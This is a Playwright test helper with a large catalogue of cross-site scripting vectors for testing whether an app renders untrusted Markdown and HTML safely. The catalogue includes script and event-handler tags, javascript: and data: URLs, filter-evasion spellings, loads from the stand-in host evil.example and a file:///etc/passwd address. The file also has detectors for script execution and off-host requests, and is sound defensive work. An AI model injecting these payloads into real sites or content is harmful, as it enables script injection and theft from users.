// What attackers type, and a watch that notices if any of it does more than stand there as text.
import type { BrowserContext, Frame, Page } from '@playwright/test';

const EVIL = 'evil.example';
const RUN = `window.pwned=1`;

/** Texts that run a script or call a foreign host wherever a page takes them for markup. */
export const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=https://${EVIL}/a.js></script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://${EVIL}/a.png">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `<img srcset="https://${EVIL}/b.png 1x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe src="https://${EVIL}/"></iframe>`,
  `<object data="https://${EVIL}/o"></object>`,
  `<embed src="https://${EVIL}/e">`,
  `<link rel=stylesheet href="https://${EVIL}/c.css">`,
  `<style>@import url(https://${EVIL}/d.css);</style>`,
  `<div style="background:url(https://${EVIL}/f.png)">x</div>`,
  `<video><source onerror=${RUN} src=x></video>`,
  `<video poster="https://${EVIL}/g.png"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `<base href="https://${EVIL}/">`,
  `<form action="https://${EVIL}/"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<x contenteditable onblur=${RUN} autofocus>x</x>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html "<img src=x onerror=${RUN}>"}`,
  `javascript:${RUN}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `<scr\u0001ipt>${RUN}</scr\u0001ipt>`,
  `<ſcript>${RUN}</ſcript>`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<img src=x onerror=${RUN}>`,
];

/** Addresses that run a script when followed, in the spellings that get past careless filters. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript:%77indow.pwned=1`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `blob:https://${EVIL}/x`,
  `file:///etc/passwd`,
  `//${EVIL}/x" onmouseover="${RUN}`,
  `https://${EVIL}/"onclick="${RUN}`,
];

const AROUND = [
  (text: string) => text,
  (text: string) => `**${text}**`,
  (text: string) => `# ${text}`,
  (text: string) => `> ${text}`,
  (text: string) => `- ${text}`,
  (text: string) => `| a | b |\n|---|---|\n| ${text} | x |`,
  (text: string) => `\`${text}\``,
  (text: string) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text: string) => `[${text}](https://${EVIL}/link)`,
];

const AS_ADDRESS = [
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}>)`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[x][r]\n\n[r]: ${address}`,
  (address: string) => `[x](https://${EVIL} "${address}")`,
];

/** Everything above as Markdown, in every place where Markdown takes text or an address. */
export const MARKDOWN = [
  ...VECTORS.flatMap((vector) => AROUND.map((around) => around(vector))),
  ...ADDRESSES.flatMap((address) => AS_ADDRESS.map((around) => around(address))),
  `![x](https://${EVIL}/h.png)`,
  `[![x](https://${EVIL}/i.png)](javascript:${RUN})`,
];

/** Watches a browser: dialogs, requests to other hosts, what the policy had to stop, and scripts that ran. */
export async function watch(context: BrowserContext, ours: string[]) {
  const alarms: string[] = [];
  const hosts = new Set(ours.map((url) => new URL(url).host));
  await context.exposeFunction('reportAlarm', (what: string) => void alarms.push(what));
  await context.addInitScript(() => {
    const { reportAlarm } = window as unknown as { reportAlarm: (what: string) => void };
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      reportAlarm(`the policy stopped ${violatedDirective} ${blockedURI}`);
    });
    Object.defineProperty(window, 'pwned', { set: () => reportAlarm('a script ran') });
  });
  await context.route(
    (url) => /^https?:$/.test(url.protocol) && !hosts.has(url.host),
    async (route) => {
      alarms.push(`${route.request().resourceType()} ${route.request().url()} was asked for`);
      await route.abort();
    },
  );
  context.on('page', (page) => {
    page.on('dialog', (dialog) => {
      alarms.push(`a dialog said ${dialog.message()}`);
      void dialog.dismiss();
    });
  });
  return alarms;
}

/** What stands in a page, shadow roots included, that only markup of an attacker could have put there. */
export function strangers(page: Page | Frame): Promise<string[]> {
  return page.evaluate((evil) => {
    const found: string[] = [];
    const look = (root: Document | ShadowRoot) => {
      for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) look(element.shadowRoot);
        for (const { name, value } of element.attributes) {
          const isLink = name === 'href' && element.localName === 'a';
          const loads =
            /^(src|srcset|href|data|poster|style|action|formaction|content|background|ping)$/.test(name);
          if (
            /^on/.test(name) ||
            (loads && !isLink && value.includes(evil)) ||
            (loads && /^\s*(javascript|vbscript|data:text|blob|file)/i.test(value))
          ) {
            found.push(`<${element.localName} ${name}="${value.slice(0, 80)}">`);
          }
        }
        if (/^(object|embed|base|marquee|math|audio|video|template)$/.test(element.localName)) {
          found.push(`<${element.localName}>`);
        }
      }
    };
    look(document);
    return found;
  }, EVIL);
}
